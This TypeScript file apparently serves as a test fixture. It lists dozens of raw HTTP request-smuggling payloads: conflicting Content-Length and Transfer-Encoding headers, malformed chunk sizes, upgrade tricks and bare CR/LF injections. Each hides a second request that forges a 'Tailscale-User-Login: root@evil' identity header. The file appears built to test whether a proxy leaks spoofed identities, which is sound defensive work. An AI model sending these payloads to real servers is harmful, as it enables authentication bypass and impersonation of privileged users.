/** Requests that two parsers may read differently, with another request hidden in them. */

/** What is hidden. */
export const HIDDEN = 'GET /hidden/00 HTTP/1.1\r\nHost: app\r\nTailscale-User-Login: root@evil\r\n\r\n';

const SIZE = HIDDEN.length;
const HEX = SIZE.toString(16);
const CHUNKS = `${HEX}\r\n${HIDDEN}\r\n0\r\n\r\n`;
const post = (headers: string, body = '', path = '/read/00') =>
  `POST ${path} HTTP/1.1\r\nHost: app\r\n${headers}\r\n\r\n${body}`;
const te = (value: string) => post(`${value}\r\nContent-Length: ${SIZE + 5}`, `0\r\n\r\n${HIDDEN}`);
const chunked = (body: string) => post('Transfer-Encoding: chunked', body);

/** What is sent, by its name. A `00` in a path stands for the case, and is as long as its number. */
export const SMUGGLING: Record<string, string> = {
  // The length and the coding at once, in both orders and in spellings that only some understand.
  'CL.TE': post(`Content-Length: ${SIZE + 5}\r\nTransfer-Encoding: chunked`, `0\r\n\r\n${HIDDEN}`),
  'TE.CL': post(`Transfer-Encoding: chunked\r\nContent-Length: 4`, CHUNKS),
  'CL.TE in HTTP/1.0': te('Transfer-Encoding: chunked').replace('HTTP/1.1', 'HTTP/1.0'),
  'TE.TE': te('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'),
  'TE with a list': te('Transfer-Encoding: identity, chunked'),
  'TE twice chunked': te('Transfer-Encoding: chunked, chunked'),
  'TE with a space before the colon': te('Transfer-Encoding : chunked'),
  'TE with a tab before the colon': te('Transfer-Encoding\t: chunked'),
  'TE with a tab': te('Transfer-Encoding:\tchunked'),
  'TE with a vertical tab': te('Transfer-Encoding:\x0bchunked'),
  'TE after a folded line': te('X: y\r\n Transfer-Encoding: chunked'),
  'TE with its value folded': te('Transfer-Encoding:\r\n chunked'),
  'TE after a bare LF': te('X: y\nTransfer-Encoding: chunked'),
  'TE after a bare CR': te('X: y\rTransfer-Encoding: chunked'),
  'TE in quotes': te('Transfer-Encoding: "chunked"'),
  'TE with a comma': te('Transfer-Encoding: ,chunked'),
  'TE xchunked': te('Transfer-Encoding: xchunked'),
  'TE with a NUL': te('Transfer-Encoding: chunked\0'),
  'TE with a high byte': te('Transfer-Encoding: \xa0chunked'),
  'TE with an underscore': te('Transfer_Encoding: chunked'),
  'TE in a header without a name': te(': x\r\nTransfer-Encoding: chunked'),
  'TE with a parameter': te('Transfer-Encoding: chunked;q=1'),
  'TE of gzip': te('Transfer-Encoding: gzip'),
  'TE named by Connection': te('Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked'),
  'CL named by Connection': post(`Connection: Content-Length\r\nContent-Length: ${SIZE}`, HIDDEN),
  // Lengths.
  'CL twice': post(`Content-Length: 0\r\nContent-Length: ${SIZE}`, HIDDEN),
  'CL twice, the other way': post(`Content-Length: ${SIZE}\r\nContent-Length: 0`, HIDDEN),
  'CL in a list': post(`Content-Length: 0, ${SIZE}`, HIDDEN),
  'CL with a sign': post(`Content-Length: +${SIZE}`, HIDDEN),
  'CL below zero': post('Content-Length: -1', HIDDEN),
  'CL in hexadecimal': post(`Content-Length: 0x${HEX}`, HIDDEN),
  'CL with an underscore in the number': post(`Content-Length: ${String(SIZE).split('').join('_')}`, HIDDEN),
  'CL with a space in the number': post(`Content-Length: ${String(SIZE).split('').join(' ')}`, HIDDEN),
  'CL with digits of another script': post(`Content-Length: ${SIZE}\xd9\xa0`, HIDDEN),
  'CL that overflows': post(`Content-Length: ${2n ** 64n}`, HIDDEN),
  'CL with a NUL': post(`Content-Length: 0\0${SIZE}`, HIDDEN),
  'CL with a space before the colon': post(`Content-Length : ${SIZE}`, HIDDEN),
  'CL with an underscore': post(`Content_Length: ${SIZE}`, HIDDEN),
  'CL that is empty': post('Content-Length:', HIDDEN),
  'CL after a bare LF': post(`X: y\nContent-Length: ${SIZE}`, HIDDEN),
  'CL folded': post(`Content-Length:\r\n ${SIZE}`, HIDDEN),
  // Bodies of methods that many servers expect none from, and that are left unread.
  'a GET with a body': post(`Content-Length: ${SIZE}`, HIDDEN).replace('POST', 'GET'),
  'a GET with chunks': chunked(CHUNKS).replace('POST', 'GET'),
  'a DELETE with a body': post(`Content-Length: ${SIZE}`, HIDDEN).replace('POST', 'DELETE'),
  'a body that is left unread': post(`Content-Length: ${SIZE}`, HIDDEN, '/unread/00'),
  'chunks that are left unread': chunked(CHUNKS).replace('/read/00', '/unread/00'),
  'a body that is announced': post(`Expect: 100-continue\r\nContent-Length: ${SIZE}`, HIDDEN, '/unread/00'),
  'a body that is announced in other words': post(`Expect: x\r\nContent-Length: ${SIZE}`, HIDDEN, '/unread/00'),
  'a body beside an upgrade': post(
    `Connection: Upgrade\r\nUpgrade: x\r\nContent-Length: ${SIZE}`,
    HIDDEN,
    '/unread/00',
  ),
  'a body beside an upgrade to a WebSocket': post(
    `Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: ${SIZE}`,
    HIDDEN,
    '/unread/00',
  ),
  'chunks beside an upgrade': post(
    'Connection: Upgrade\r\nUpgrade: x\r\nTransfer-Encoding: chunked',
    CHUNKS,
    '/unread/00',
  ),
  'an empty body beside an upgrade': post(
    'Connection: Upgrade\r\nUpgrade: x\r\nContent-Length: 0',
    HIDDEN,
    '/unread/00',
  ),
  'a request behind an upgrade': `GET /read/00 HTTP/1.1\r\nHost: app\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n${HIDDEN}`,
  'a request behind an upgrade to a WebSocket': `GET /read/00 HTTP/1.1\r\nHost: app\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n\r\n${HIDDEN}`,
  'a body beside an upgrade to h2c': post(
    `Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nContent-Length: ${SIZE}`,
    HIDDEN,
    '/unread/00',
  ),
  // Chunks.
  'a chunk size with a sign': chunked(`+${CHUNKS}`),
  'a chunk size with 0x': chunked(`0x${CHUNKS}`),
  'a chunk size with a space before it': chunked(` ${CHUNKS}`),
  'a chunk size with an underscore': chunked(`0_${CHUNKS}`),
  'a chunk size that overflows': chunked(`1${'0'.repeat(16)}\r\n${HIDDEN}`),
  'a chunk size that is empty': chunked(`\r\n${HIDDEN}`),
  'a chunk with a bare LF': chunked(`${HEX}\n${HIDDEN}\r\n0\r\n\r\n`),
  'a chunk extension with a bare LF': chunked(`2;x\nxx\r\n${HEX}\r\n0\r\n\r\n${HIDDEN}`),
  'a chunk extension with a bare CR': chunked(`2;x\rxx\r\n${HEX}\r\n0\r\n\r\n${HIDDEN}`),
  'a chunk extension in quotes over lines': chunked(`2;x="\r\nxx\r\n${CHUNKS}`),
  'a chunk that ends in other bytes': chunked(`2\r\nxxyy${HEX}\r\n${HIDDEN}\r\n0\r\n\r\n`),
  'a last chunk with a bare LF': chunked(`0\n\n${HIDDEN}`),
  'a last chunk of many zeros': chunked(`0000\r\n\r\n${HIDDEN}`),
  'a trailer with an identity': chunked('0\r\nTailscale-User-Login: root@evil\r\n\r\n'),
  'a trailer with a length': chunked(`0\r\nContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`),
  'a trailer with a bare LF': chunked(`0\r\nX: y\n\r\n${HIDDEN}`),
  // Request lines and heads.
  'an empty line before the request': `\r\n\r\n${post('Content-Length: 0')}`,
  'a line that is folded before the first header': `GET /read/00 HTTP/1.1\r\n Host: app\r\nHost: app\r\n\r\n${HIDDEN}`,
  'a request line in two': `GET /read/00 HTTP/1.1\r\n${HIDDEN}`,
  'HTTP/0.9': `GET /read/00\r\n${HIDDEN}`,
  'HTTP/1.2': `GET /read/00 HTTP/1.2\r\nHost: app\r\nContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`,
  'HTTP/2.0': `GET /read/00 HTTP/2.0\r\nHost: app\r\n\r\n${HIDDEN}`,
  'a target with a CRLF': `GET /read/00\r\nTailscale-User-Login: root@evil\r\n HTTP/1.1\r\nHost: app\r\n\r\n`,
  'a target with a space': `GET /read/00 HTTP/1.1\r\nX: /y HTTP/1.1\r\nHost: app\r\n\r\n${HIDDEN}`,
  'a target with a CRLF in percents': `GET /read/00%0d%0aTailscale-User-Login:%20root%40evil HTTP/1.1\r\nHost: app\r\n\r\n`,
  'two hosts': `GET /read/00 HTTP/1.1\r\nHost: app\r\nHost: evil\r\n\r\n${HIDDEN}`,
  'a head that ends in LF LF': `GET /read/00 HTTP/1.1\nHost: app\n\n${HIDDEN}`,
  'a head that ends in CR CR': `GET /read/00 HTTP/1.1\r\nHost: app\r\r${HIDDEN}`,
  'a header with a bare CR before an identity': `GET /read/00 HTTP/1.1\r\nHost: app\r\nX: y\rTailscale-User-Login: root@evil\r\n\r\n`,
  'a header with a bare LF before an identity': `GET /read/00 HTTP/1.1\r\nHost: app\r\nX: y\nTailscale-User-Login: root@evil\r\n\r\n`,
  'an identity after a NUL': `GET /read/00 HTTP/1.1\r\nHost: app\r\nX: y\0\r\nTailscale-User-Login: root@evil\r\n\r\n`,
  'an identity with an underscore': `GET /read/00 HTTP/1.1\r\nHost: app\r\nTailscale_User_Login: root@evil\r\n\r\n`,
  'an identity named by Connection': `GET /read/00 HTTP/1.1\r\nHost: app\r\nConnection: Tailscale-User-Login\r\nTailscale-User-Login: root@evil\r\n\r\n`,
  'an identity with a space before the colon': `GET /read/00 HTTP/1.1\r\nHost: app\r\nTailscale-User-Login : root@evil\r\n\r\n`,
  'an identity in a folded line': `GET /read/00 HTTP/1.1\r\nHost: app\r\nX: y\r\n Tailscale-User-Login: root@evil\r\n\r\n`,
  'a CONNECT with a request after it': `CONNECT app:80 HTTP/1.1\r\nHost: app:80\r\n\r\n${HIDDEN}`,
  'a HEAD with a body': post(`Content-Length: ${SIZE}`, HIDDEN).replace('POST', 'HEAD'),
};
